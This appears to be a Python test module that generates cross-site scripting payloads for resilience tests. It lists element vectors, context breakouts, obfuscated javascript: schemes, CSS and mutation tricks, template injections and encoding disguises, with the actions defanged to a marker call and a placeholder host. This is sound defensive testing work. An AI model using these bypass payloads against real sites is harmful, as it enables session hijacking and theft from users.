"""The matrix that tests.resilience.xss makes payloads from: ways to run, ways out, disguises.

`hit(0)` and hit.invalid/0 stand for what a payload does: its number takes the place of 0.
"""

import base64
import re
from collections.abc import Callable
from urllib.parse import quote

# Elements that run by themselves, or when they are pressed.
ELEMENTS = [
    "<script>hit(0)</script>",
    "<script src=data:,hit(0)></script>",
    "<script type=module>hit(0)</script>",
    "<script src=//hit.invalid/0></script>",
    "<img src=x onerror=hit(0)>",
    "<img src=//hit.invalid/0>",
    "<image src=x onerror=hit(0)>",
    "<img srcset=x onerror='hit(0)'>",
    '<img src="x:x" onerror="hit(0)">',
    "<img src=x onerror=eval('hi'+'t(0)'),hit(0)>",
    "<img src=x onerror=top['hit'](0),hit(0)>",
    "<img src=x onerror=window.hit_0=hit(0)>",
    "<img src=x onerror=`${hit(0)}`>",
    "<svg onload=hit(0)>",
    "<svg/onload=hit(0)//",
    "<svg><script>hit(0)</script></svg>",
    "<svg><animate onbegin=hit(0) attributeName=x dur=1s></svg>",
    "<svg><set onbegin=hit(0) attributeName=x></svg>",
    "<svg><a xlink:href=javascript:hit(0)><text y=9>a</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=hit(0)>#x'></use></svg>",
    "<svg><image href=x onerror=hit(0)></svg>",
    "<svg><foreignObject><img src=x onerror=hit(0)></foreignObject></svg>",
    "<math href=javascript:hit(0)>a</math>",
    "<math><mi onclick=hit(0) tabindex=1>a</mi></math>",
    "<math><mtext><img src=x onerror=hit(0)></mtext></math>",
    "<body onload=hit(0)>",
    "<body onpageshow=hit(0)>",
    "<html onclick=hit(0)>",
    "<details open ontoggle=hit(0)>a</details>",
    "<video src=x onerror=hit(0)></video>",
    "<video><source src=x onerror=hit(0)></video>",
    "<audio src=x onerror=hit(0)></audio>",
    "<iframe src=javascript:hit(0)></iframe>",
    "<iframe srcdoc='<script>hit(0)</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;hit(0)&lt;/script&gt;></iframe>",
    "<iframe onload=hit(0)></iframe>",
    "<iframe src=//hit.invalid/0></iframe>",
    "<frameset onload=hit(0)>",
    "<object data=x onerror=hit(0)></object>",
    "<object data='data:text/html,<script>hit(0)</script>'></object>",
    "<embed src='data:text/html,<script>hit(0)</script>'>",
    "<input autofocus onfocus=hit(0)>",
    "<select autofocus onfocus=hit(0)></select>",
    "<textarea autofocus onfocus=hit(0)></textarea>",
    "<button onclick=hit(0)>a</button>",
    "<a href=javascript:hit(0)>a</a>",
    "<a href=//hit.invalid/0>a</a>",
    "<area href=javascript:hit(0)>",
    "<form action=javascript:hit(0)><button>a</button></form>",
    "<form id=f></form><button form=f formaction=javascript:hit(0)>a</button>",
    "<form action=//hit.invalid/0><input type=submit></form>",
    "<input type=image src=x onerror=hit(0)>",
    "<isindex action=javascript:hit(0) type=image>",
    "<link rel=stylesheet href=x onerror=hit(0)>",
    "<link rel=stylesheet href=//hit.invalid/0>",
    "<link rel=import href=//hit.invalid/0>",
    "<style onload=hit(0)></style>",
    "<style>@import '//hit.invalid/0';</style>",
    "<style>body { background: url(//hit.invalid/0) }</style>",
    "<meta http-equiv=refresh content='0;url=//hit.invalid/0'>",
    "<meta http-equiv=refresh content='0;url=javascript:hit(0)'>",
    "<base href=//hit.invalid/0/><img src=x>",
    "<base href=javascript:hit(0)//><a href=#>a</a>",
    "<marquee onstart=hit(0)>a</marquee>",
    "<x onclick=hit(0) tabindex=1>a</x>",
    "<x contenteditable autofocus onfocus=hit(0)>a</x>",
    "<p onmouseover=hit(0)>a</p>",
    "<dialog open onclick=hit(0)>a</dialog>",
    "<button popovertarget=p>a</button><p id=p popover onbeforetoggle=hit(0)>a</p>",
    "<div><template shadowrootmode=open><img src=x onerror=hit(0)></template></div>",
    "<table background=//hit.invalid/0><td>a</table>",
    "<bgsound src=javascript:hit(0)>",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>hit(0)</script>",
    "<!--[if true]><script>hit(0)</script><![endif]-->",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=hit(0)>'>]>&y;",
]
# The few that carry a way out or a disguise.
CARRIED = [
    "<script>hit(0)</script>",
    "<img src=x onerror=hit(0)>",
    "<svg onload=hit(0)>",
    "<iframe srcdoc='<script>hit(0)</script>'></iframe>",
    "<details open ontoggle=hit(0)>",
    "<a href=javascript:hit(0)>a</a>",
]
# Where the words stand → what ends it.
ENDS = {
    "double": ['">', '" >', '"/>'],
    "single": ["'>", "'/>"],
    "bare": [">", " >"],
    "comment": ["-->", "--!>", "-- >"],
    "cdata": ["]]>", "]]></desc>"],
    "textarea": ["</textarea>", "</TextArea >", "</textarea/>"],
    "title": ["</title>", "</TITLE\t>"],
    "style": ["</style>", "'}</style x>"],
    "noscript": ["</noscript>", "<p title='</noscript>'>"],
    "xmp": ["</xmp>"],
    "noembed": ["</noembed>"],
    "iframe": ["</iframe>"],
    "template": ["</template>"],
    "select": ["</option></select>", "</select>"],
    "table": ["</td></tr></table>", "</table>"],
    "json": ["</script>", '"}</script >', "<!--</script>"],
    "script double": ["</script>", "</SCRIPT\n>"],
    "script comment": ["</script/>"],
}
HANDLERS = [
    "onclick",
    "onfocus",
    "onmouseover",
    "onmouseenter",
    "onpointerover",
    "onpointerdown",
    "onkeydown",
    "onblur",
    "oninput",
    "onchange",
    "onselect",
    "ontoggle",
    "onanimationstart",
    "onwheel",
    "oncopy",
    "onpaste",
    "ondrag",
    "onbeforetoggle",
    "onload",
    "onerror",
]
# Attributes that a breakout adds: the quote that it ends, and its own.
QUOTES = {"double": '" %s="hit(0)" x="', "single": "' %s='hit(0)' x='", "bare": "x %s=hit(0) y="}
SCHEMES = [
    "javascript:hit(0)",
    "JaVaScRiPt:hit(0)",
    " javascript:hit(0)",
    "\x01javascript:hit(0)",
    "java\tscript:hit(0)",
    "java\nscript:hit(0)",
    "javascript\t:hit(0)",
    "javascript://x.invalid/%0Ahit(0)",
    "javascript:void'x';hit(0)",
    "javascript&colon;hit(0)",
    "&#106;avascript:hit(0)",
    "java&Tab;script:hit(0)",
    "java&NewLine;script:hit(0)",
    "javascript&#58hit(0)",
    "&#x6a&#x61&#x76&#x61script:hit(0)",
    "javascript:%68it(0)",
    "javascript:\\u0068it(0)",
    "javascript:'<script>hit(0)</script>'",
    "vbscript:hit(0)",
    "livescript:hit(0)",
    "view-source:javascript:hit(0)",
    "data:text/html,<script>hit(0)</script>",
    "data:text/html;charset=utf-7,+ADw-script+AD4-hit(0)+ADw-/script+AD4-",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit(0)'/>",
    "data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>hit(0)</x:script>",
    "//hit.invalid/0",
    "\\\\hit.invalid/0",
    "https:hit.invalid/0",
    "/\\hit.invalid/0",
]
CARRIERS = [
    '<a href="%s">a</a>',
    "<iframe src='%s'></iframe>",
    '<form action="%s"><button>a</button></form>',
    '<object data="%s"></object>',
    '<svg><a href="%s"><text y=9>a</text></a></svg>',
]
IN_SCRIPT = {
    "script double": ['";hit(0);//', '"-hit(0)-"', '"+hit(0)+"', '\\";hit(0);//', '"\nhit(0)//'],
    "script single": ["';hit(0);//", "'-hit(0)-'", "'+hit(0)+'", "'};hit(0);{'", "',hit(0),'"],
    "script literal": ["${hit(0)}", "`;hit(0);//", "`+hit(0)+`", "${`${hit(0)}`}", "`,hit(0),`"],
    "script comment": ["\nhit(0)", "\u2028hit(0)", "\u2029hit(0)", "*/\rhit(0)/*"],
    "handler": ["');hit(0);('", "&apos;);hit(0);(&apos;", "&#39;-hit(0)-&#39;", "'+hit(0)+'"],
}
CSS = [
    "background:url(//hit.invalid/0)",
    "background:url('javascript:hit(0)')",
    "width:expression(hit(0))",
    "xss:expr/**/ession(hit(0))",
    "behavior:url(//hit.invalid/0)",
    "-moz-binding:url(//hit.invalid/0)",
    "list-style:url(//hit.invalid/0);display:list-item",
    "background:\\75 rl(//hit.invalid/0)",
    "}*{background:url(//hit.invalid/0)}",
    '" onclick="hit(0)',
]
MUTATING = [
    "<svg></p><style><a id='</style><img src=x onerror=hit(0)>'>",
    "<math><p></p><style><a title='</style><img src=x onerror=hit(0)>'>",
    "<noscript><p title='</noscript><img src=x onerror=hit(0)>'></noscript>",
    "<listing>&lt;img src=x onerror=hit(0)&gt;</listing>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit(0)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
    "onerror=hit(0)&gt;'>",
    "<svg><desc><noscript>&lt;/noscript>&lt;img src=x onerror=hit(0)></noscript></desc></svg>",
    "<template><s><template><s><img src=x onerror=hit(0)></s></template></s></template>",
    "<xmp><p title='</xmp><img src=x onerror=hit(0)>'></xmp>",
    "<a title='</a><img src=x onerror=hit(0)>'>",
    "<img alt='`><img src=x onerror=hit(0)>'>",
    "<table><a href=x><img src=x onerror=hit(0)></table>",
    "<select><template><img src=x onerror=hit(0)></template></select>",
    "<select><script>hit(0)</script></select>",
    "<textarea><!--</textarea><img src=x onerror=hit(0)>-->",
    "<plaintext><img src=x onerror=hit(0)>",
    "<b <script>hit(0)</script>",
    "<<script>hit(0)//<</script>",
    "<img src='x' \"' onerror=hit(0) '\">",
    "<svg><![CDATA[><image xlink:href=']]><img src=x onerror=hit(0)//'></svg>",
]
FRAMEWORKS = [
    "{{hit(0)}}",
    "{{constructor.constructor('hit(0)')()}}",
    "{{$on.constructor('hit(0)')()}}",
    "{{7*7}}{{hit(0)|safe}}",
    "{% debug %}{% autoescape off %}{{hit(0)}}{% endautoescape %}",
    "{% include '//hit.invalid/0' %}",
    "#{hit(0)}",
    "<%= hit(0) %>",
    "<div ng-app ng-csp ng-click=$event.view.hit(0)>a</div>",
    "<div v-html=\"hit(0)\" @click='hit(0)'>a</div>",
    "<div x-data x-init=hit(0)>a</div>",
    "<div hx-on:load=hit(0) hx-get=//hit.invalid/0 hx-trigger=load>a</div>",
    "<div hx-on::after-request='hit(0)' data-hx-get=//hit.invalid/0>a</div>",
    "<div data-controller=w-swap data-w-swap-src-value=//hit.invalid/0>a</div>",
    "<div data-controller='w-init' data-w-init-event-value='hit(0)'>a</div>",
    "<a data-controller=w-action data-w-action-url-value=//hit.invalid/0 "
    "data-action=mouseover->w-action#post>a</a>",
    "<div data-controller=w-teleport data-w-teleport-target-value=body><template>"
    "<img src=x onerror=hit(0)></template></div>",
    "<template data-controller=w-teleport><script>hit(0)</script></template>",
    "<div data-controller=w-tooltip data-w-tooltip-content-value='<img src=x onerror=hit(0)>'>",
    '" data-controller="w-clone" data-action="click->w-clone#add" x="hit(0)',
    "<turbo-stream action=append target=a><template><script>hit(0)</script></template>",
    '{"_type":"wagtail.widgets.Widget","_args":["<script>hit(0)</script>"]}',
    '{"_ref":0,"_id":1,"_val":"</script><script>hit(0)</script>"}',
    '{"blocks":[{"text":"a"}],"entityMap":{"0":{"type":"LINK","data":'
    '{"url":"javascript:hit(0)"}}}}',
    '<a linktype="external" href="javascript:hit(0)">a</a>',
    '<embed embedtype="media" url="//hit.invalid/0"/>',
    '<embed embedtype="image" alt="&quot; onerror=&quot;hit(0)" id="1"/>',
    "[a](javascript:hit(0))",
    "![a](x'onerror='hit(0))",
    "[a]: javascript:hit(0)",
    "<javascript:hit(0)>",
    "[[javascript:hit(0)|a]]",
    "```\n</code><script>hit(0)</script>\n```",
    '=HYPERLINK("javascript:hit(0)","a")',
    "%s%n%(x)s{0}<script>hit(0)</script>",
    "__proto__[innerHTML]=<img src=x onerror=hit(0)>",
]


def _cased(text: str) -> str:
    """Names of tags and attributes in LiKe ThIs."""

    def mixed(found: re.Match[str]) -> str:
        signs = enumerate(found[0])
        return "".join(sign.upper() if n % 2 else sign for n, sign in signs)

    return re.sub(r"</?[a-z]+| on[a-z]+(?==)|javascript:", mixed, text)


def _entities(form: str) -> Callable[[str], str]:
    return lambda text: "".join(form.format(ord(sign)) for sign in text)


def _named(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _spaced(sign: str) -> Callable[[str], str]:
    """Another sign where the tag has its spaces."""
    return lambda text: text.replace(" ", sign)


def _wide(text: str) -> str:
    return "".join(chr(ord(s) + 0xFEE0) if s in "<>\"'=/:" else s for s in text)


# In which place a disguise may run → what it does to a vector.
DISGUISES: list[tuple[str, Callable[[str], str]]] = [
    ("text", _cased),
    ("text", _spaced("/")),
    ("text", _spaced("\t")),
    ("text", _spaced("\n")),
    ("text", _spaced("\f")),
    ("text", _spaced("\r\n")),
    ("text", _spaced("\v")),
    ("text", _spaced("\u00a0")),
    ("text", _spaced("\u3000")),
    ("text", _spaced("/\t//\n/ ")),
    ("text", lambda t: t.replace("=", " = ")),
    ("text", lambda t: t.replace("=", "\n=\n")),
    ("text", lambda t: t.rstrip(">")),
    ("text", lambda t: t.replace(">", ">>")),
    ("text", lambda t: t.replace("hit", "\\u0068it")),
    ("text", lambda t: t.replace("=hit", "=&#104;it").replace(":hit", ":&#104;it")),
    ("text", lambda t: t.replace("hit(", "hit&lpar;")),
    ("text", lambda t: t.replace("<", "<\0")),
    ("text", lambda t: t.replace("hit", "\0hit")),
    ("text", lambda t: f"\ufeff\0{t}\0"),
    ("text", lambda t: f"\x1b[2J\x08\x7f{t}\x85"),
    ("squeezed", lambda t: t.replace("<", "<\u200b").replace("on", "o\u200dn")),
    ("squeezed", lambda t: "\u202e" + t.replace("<", "\u202d<\u202c") + "\u202c"),
    ("squeezed", lambda t: "\u2066" + t.replace("s", "\u200fs") + "\u2069"),
    ("squeezed", lambda t: t.replace("r", "\0r")),
    ("folded", _wide),
    ("folded", lambda t: t.replace("<", "\ufe64").replace(">", "\ufe65")),
    ("folded", lambda t: t.replace("s", "\u017f").replace("i", "\u2170", 1)),
    ("text", lambda t: t.replace("<", "<\u0338").replace(">", ">\u0338")),
    ("srcdoc", _named),
    ("srcdoc", _entities("&#{};")),
    ("srcdoc", _entities("&#x{:x};")),
    ("srcdoc", _entities("&#{:07d}")),
    ("srcdoc", lambda t: _named(_named(t))),
    ("decoded", lambda t: quote(t, safe="")),
    ("decoded", _entities("%{:02x}")),
    ("decoded twice", lambda t: quote(quote(t, safe=""), safe="")),
    ("evaluated", _entities("\\x{:02x}")),
    ("evaluated", _entities("\\u{:04x}")),
    ("text", lambda t: t.replace("<", "+ADw-").replace(">", "+AD4-")),
    ("text", lambda t: t.replace("<", "%C0%BC").replace(">", "%C0%BE")),
    ("text", lambda t: "data:text/html;base64," + base64.b64encode(t.encode()).decode()),
]
